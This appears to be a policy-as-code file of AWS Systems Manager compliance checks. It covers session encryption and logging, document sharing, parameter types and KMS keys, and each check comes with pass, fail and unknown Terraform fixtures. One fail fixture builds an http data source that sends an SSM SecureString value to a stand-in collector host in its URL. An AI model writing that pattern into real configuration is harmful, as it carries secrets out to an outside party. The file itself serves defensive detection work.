# AWS Systems Manager: parameters, documents, sessions.

policy "aws-ssm-session-encrypted" {
  title    = "Session Manager encrypts sessions with a KMS key"
  severity = "medium"
  resource = ["aws_ssm_document"]
  checkov  = ["CKV_AWS_112"]
  frameworks = {
    soc2        = ["CC6.7"]
    pci_dss     = ["4.2.1"]
    gdpr        = ["Art. 32"]
    iso27001    = ["A.8.24"]
    hipaa       = ["164.312(e)(1)"]
    nist_800_53 = ["SC-8"]
  }
  why = "TLS ends at AWS. With a KMS key the session itself is encrypted between the user and the machine."
  fix = "Set kmsKeyId in the document's inputs."

  # Checkov parses the content as JSON or YAML by document_format; YAML reads both.
  when      = self.document_type == "Session" && length(try(yamldecode(self.content).inputs, {})) > 0
  condition = (try(yamldecode(self.content).inputs.kmsKeyId, null) != null && try(yamldecode(self.content).inputs.kmsKeyId, null) != "")
  message   = "kmsKeyId is not set in the session document"
  attribute = "content"

  pass {
    resource "aws_ssm_document" "keyed" {
      name            = "SSM-SessionManagerRunShell"
      document_type   = "Session"
      document_format = "JSON"
      content = jsonencode({
        schemaVersion = "1.0"
        description   = "sessions"
        sessionType   = "Standard_Stream"
        inputs = {
          kmsKeyId = "alias/sessions"
        }
      })
    }
  }
  pass {
    resource "aws_ssm_document" "keyed" {
      name            = "sessions"
      document_type   = "Session"
      document_format = "YAML"
      content         = "schemaVersion: '1.0'\nsessionType: Standard_Stream\ninputs:\n  kmsKeyId: alias/sessions\n"
    }
  }

  fail {
    resource "aws_ssm_document" "plain" {
      name            = "SSM-SessionManagerRunShell"
      document_type   = "Session"
      document_format = "JSON"
      content = jsonencode({
        schemaVersion = "1.0"
        description   = "sessions"
        sessionType   = "Standard_Stream"
        inputs = {
          s3BucketName = "example-sessions"
          kmsKeyId     = ""
        }
      })
    }
  }
  fail {
    resource "aws_ssm_document" "plain" {
      name            = "sessions"
      document_type   = "Session"
      document_format = "YAML"
      content         = "schemaVersion: '1.0'\nsessionType: Standard_Stream\ninputs:\n  idleSessionTimeout: '20'\n"
    }
  }
  unknown {
    variable "content" {
      type = string
    }
    resource "aws_ssm_document" "asked" {
      name          = "sessions"
      document_type = "Session"
      content       = var.content
    }
  }
}

policy "aws-ssm-session-logged" {
  title    = "Session Manager keeps encrypted logs of sessions"
  severity = "medium"
  resource = ["aws_ssm_document"]
  checkov  = ["CKV_AWS_113"]
  frameworks = {
    soc2        = ["CC7.2"]
    pci_dss     = ["10.2.1"]
    gdpr        = ["Art. 32"]
    iso27001    = ["A.8.15"]
    hipaa       = ["164.312(b)"]
    nist_800_53 = ["AU-2", "AU-12"]
  }
  why = "The log is the only record of what somebody did in a shell, and it holds what they typed."
  fix = "Name an S3 bucket or a log group in the document's inputs, with s3EncryptionEnabled or cloudWatchEncryptionEnabled true."

  when = self.document_type == "Session" && length(try(yamldecode(self.content).inputs, {})) > 0
  condition = anytrue([
    for inputs in [try(yamldecode(self.content).inputs, {})] : anytrue([
      inputs.s3BucketName != null && inputs.s3BucketName != "" && inputs.s3EncryptionEnabled == true,
      inputs.cloudWatchLogGroupName != null && inputs.cloudWatchLogGroupName != "" && inputs.cloudWatchEncryptionEnabled == true,
    ])
  ])
  message   = "sessions are not logged, or not encrypted"
  attribute = "content"

  pass {
    resource "aws_ssm_document" "bucket" {
      name            = "SSM-SessionManagerRunShell"
      document_type   = "Session"
      document_format = "JSON"
      content = jsonencode({
        schemaVersion = "1.0"
        description   = "sessions"
        sessionType   = "Standard_Stream"
        inputs = {
          s3BucketName        = "example-sessions"
          s3EncryptionEnabled = true
        }
      })
    }
  }
  pass {
    resource "aws_ssm_document" "group" {
      name            = "SSM-SessionManagerRunShell"
      document_type   = "Session"
      document_format = "JSON"
      content = jsonencode({
        schemaVersion = "1.0"
        description   = "sessions"
        sessionType   = "Standard_Stream"
        inputs = {
          cloudWatchLogGroupName      = "sessions"
          cloudWatchEncryptionEnabled = true
        }
      })
    }
  }
  fail {
    resource "aws_ssm_document" "plain" {
      name            = "SSM-SessionManagerRunShell"
      document_type   = "Session"
      document_format = "JSON"
      content = jsonencode({
        schemaVersion = "1.0"
        description   = "sessions"
        sessionType   = "Standard_Stream"
        inputs = {
          s3BucketName        = "example-sessions"
          s3EncryptionEnabled = false
        }
      })
    }
  }
  fail {
    resource "aws_ssm_document" "silent" {
      name            = "SSM-SessionManagerRunShell"
      document_type   = "Session"
      document_format = "JSON"
      content = jsonencode({
        schemaVersion = "1.0"
        description   = "sessions"
        sessionType   = "Standard_Stream"
        inputs = {
          kmsKeyId = "alias/sessions"
        }
      })
    }
  }
  unknown {
    variable "encrypt" {
      type = bool
    }
    resource "aws_ssm_document" "asked" {
      name            = "SSM-SessionManagerRunShell"
      document_type   = "Session"
      document_format = "JSON"
      content = jsonencode({
        schemaVersion = "1.0"
        description   = "sessions"
        sessionType   = "Standard_Stream"
        inputs = {
          s3BucketName        = "example-sessions"
          s3EncryptionEnabled = var.encrypt
        }
      })
    }
  }
}

policy "aws-ssm-document-private" {
  title    = "SSM documents are not shared with everyone"
  severity = "high"
  resource = ["aws_ssm_document"]
  checkov  = ["CKV_AWS_303"]
  frameworks = {
    soc2        = ["CC6.1", "CC6.6"]
    pci_dss     = ["1.4.4", "7.2.1"]
    gdpr        = ["Art. 32"]
    iso27001    = ["A.8.3"]
    hipaa       = ["164.312(a)(1)"]
    nist_800_53 = ["AC-3", "AC-6", "SC-7"]
  }
  why = "A public document shows every AWS customer how your machines are run: names, paths, and often secrets."
  fix = "Name the account ids in permissions, or remove it."

  condition = !anytrue([for id in split(",", self.permissions["account_ids"]) : lower(trimspace(id)) == "all"])

  pass {
    resource "aws_ssm_document" "own" {
      name          = "restart"
      document_type = "Command"
      content       = "{\"schemaVersion\": \"1.2\", \"runtimeConfig\": {}}"
    }
    resource "aws_ssm_document" "shared" {
      name          = "restart-two"
      document_type = "Command"
      content       = "{\"schemaVersion\": \"1.2\", \"runtimeConfig\": {}}"
      permissions = {
        type        = "Share"
        account_ids = "444455556666,777788889999"
      }
    }
  }
  fail {
    resource "aws_ssm_document" "public" {
      name          = "restart"
      document_type = "Command"
      content       = "{\"schemaVersion\": \"1.2\", \"runtimeConfig\": {}}"
      permissions = {
        type        = "Share"
        account_ids = "All"
      }
    }
  }
  unknown {
    variable "accounts" {
      type = string
    }
    resource "aws_ssm_document" "asked" {
      name          = "restart"
      document_type = "Command"
      content       = "{\"schemaVersion\": \"1.2\", \"runtimeConfig\": {}}"
      permissions = {
        type        = "Share"
        account_ids = var.accounts
      }
    }
  }
}

policy "aws-ssm-parameter-kms-key" {
  title    = "Secure SSM parameters use a KMS key of your own"
  severity = "low"
  resource = ["aws_ssm_parameter"]
  checkov  = ["CKV_AWS_337"]
  frameworks = {
    soc2        = ["CC6.1"]
    pci_dss     = ["3.5.1", "3.6.1"]
    gdpr        = ["Art. 32"]
    iso27001    = ["A.8.24"]
    hipaa       = ["164.312(a)(2)(iv)"]
    nist_800_53 = ["SC-12", "SC-28"]
  }
  why = "The account's default key lets everyone with the read permission decrypt. A key of your own is a second lock."
  fix = "Set key_id to a key of your own."

  when      = self.type == "SecureString"
  condition = self.key_id != null && (self.key_id != "" || exists(linked(self, "aws_kms_key", "aws_kms_alias")))

  pass {
    resource "aws_ssm_parameter" "keyed" {
      name   = "/app/token"
      type   = "SecureString"
      value  = "set by hand"
      key_id = "arn:aws:kms:eu-central-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    }
  }
  fail {
    resource "aws_ssm_parameter" "default" {
      name  = "/app/token"
      type  = "SecureString"
      value = "set by hand"
    }
  }
  unknown {
    variable "key" {
      type = string
    }
    resource "aws_ssm_parameter" "asked" {
      name   = "/app/token"
      type   = "SecureString"
      value  = "set by hand"
      key_id = var.key
    }
  }
}

policy "aws-ssm-parameter-secure" {
  title    = "SSM parameters are of type SecureString"
  severity = "low"
  resource = ["aws_ssm_parameter"]
  checkov  = ["CKV2_AWS_34"]
  frameworks = {
    soc2        = ["CC6.1"]
    pci_dss     = ["3.5.1"]
    gdpr        = ["Art. 32"]
    iso27001    = ["A.8.24"]
    hipaa       = ["164.312(a)(2)(iv)"]
    nist_800_53 = ["SC-28"]
  }
  why = "A String parameter is stored and shown in plain text to everyone who may read parameters. Settings that are no secrets can be waived."
  fix = "Set type = \"SecureString\"."

  condition = self.type == "SecureString"

  pass {
    resource "aws_ssm_parameter" "token" {
      name  = "/app/token"
      type  = "SecureString"
      value = "set by hand"
    }
  }
  fail {
    resource "aws_ssm_parameter" "setting" {
      name  = "/app/setting"
      type  = "String"
      value = "blue"
    }
  }
  unknown {
    variable "type" {
      type = string
    }
    resource "aws_ssm_parameter" "asked" {
      name  = "/app/setting"
      type  = var.type
      value = "blue"
    }
  }
}

policy "aws-ssm-parameter-not-sent-over-http" {
  title    = "SSM parameters are not sent to web addresses"
  severity = "high"
  data     = ["http"]
  checkov  = ["CKV2_AWS_36"]
  frameworks = {
    soc2        = ["CC6.7"]
    pci_dss     = ["8.6.2"]
    gdpr        = ["Art. 32"]
    iso27001    = ["A.5.21", "A.8.12"]
    nist_800_53 = ["SC-7", "SR-3"]
  }
  why = "A data \"http\" runs on every plan. With a parameter in its address, headers or body it carries the secret out to whoever answers."
  fix = "Take the parameter out of the request. Check where the configuration comes from."

  # Checkov passes parameters that are not SecureString.
  condition = !anytrue([for p in linked(self, "aws_ssm_parameter") : p.type == "SecureString"])
  message   = "the request is made with an SSM parameter"
  attribute = "url"

  pass {
    data "http" "address" {
      url = "https://checkip.amazonaws.com"
    }
  }
  fail {
    resource "aws_ssm_parameter" "token" {
      name  = "/app/token"
      type  = "SecureString"
      value = "set by hand"
    }
    data "http" "out" {
      url = "http://collector.example.net/?t=${aws_ssm_parameter.token.value}"
    }
  }
}

policy "aws-ssm-data-sync-encrypted" {
  title    = "SSM inventory is written encrypted with a KMS key"
  severity = "low"
  resource = ["aws_ssm_resource_data_sync"]
  frameworks = {
    soc2        = ["CC6.1"]
    pci_dss     = ["3.5.1", "3.6.1"]
    gdpr        = ["Art. 32"]
    iso27001    = ["A.8.24"]
    hipaa       = ["164.312(a)(2)(iv)"]
    nist_800_53 = ["SC-12", "SC-28"]
  }
  why = "The inventory lists every machine with its software and versions: a map for an attacker."
  fix = "Set kms_key_arn in s3_destination."

  condition = self.s3_destination.kms_key_arn != null && (self.s3_destination.kms_key_arn != "" || exists(linked(self, "aws_kms_key", "aws_kms_alias")))

  pass {
    resource "aws_ssm_resource_data_sync" "keyed" {
      name = "inventory"
      s3_destination {
        bucket_name = "example-inventory"
        region      = "eu-central-1"
        kms_key_arn = "arn:aws:kms:eu-central-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
      }
    }
  }
  fail {
    resource "aws_ssm_resource_data_sync" "plain" {
      name = "inventory"
      s3_destination {
        bucket_name = "example-inventory"
        region      = "eu-central-1"
      }
    }
  }
  unknown {
    variable "key" {
      type = string
    }
    resource "aws_ssm_resource_data_sync" "asked" {
      name = "inventory"
      s3_destination {
        bucket_name = "example-inventory"
        region      = "eu-central-1"
        kms_key_arn = var.key
      }
    }
  }
}
